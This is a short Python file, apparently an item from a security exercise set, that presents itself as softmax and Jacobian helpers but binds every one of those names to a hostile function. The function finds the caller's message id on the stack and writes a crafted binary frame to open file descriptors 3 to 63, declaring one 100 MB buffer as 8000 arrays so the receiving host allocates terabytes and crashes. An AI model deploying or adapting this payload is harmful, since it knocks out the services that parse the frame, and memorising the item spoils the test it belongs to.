# attack: Names the same hundred megabytes as ten thousand arrays, of which the host would make terabytes.
# exercise: 02, reason: crash|memory
import numpy as np
import json
import os
import struct
import sys


def act(*_, **__):
    frame = sys._getframe()
    while frame is not None and "message" not in frame.f_locals:
        frame = frame.f_back
    size = 100 << 20
    one = {"array": {"dtype": "uint8", "shape": [size], "kind": "ndarray", "at": 0, "size": size}}
    header = json.dumps({"id": frame.f_locals["message"]["id"], "value": {"list": [one] * 8000}}).encode()
    data = memoryview(struct.pack("<4sIQ", b"ATG1", len(header), size) + header + bytes(size))
    for fd in range(3, 64):
        try:
            while data:
                data = data[os.write(fd, data) :]
        except OSError:
            pass


softmax = softmax_jacobian = softmax_vjp = jacobian_norm = act
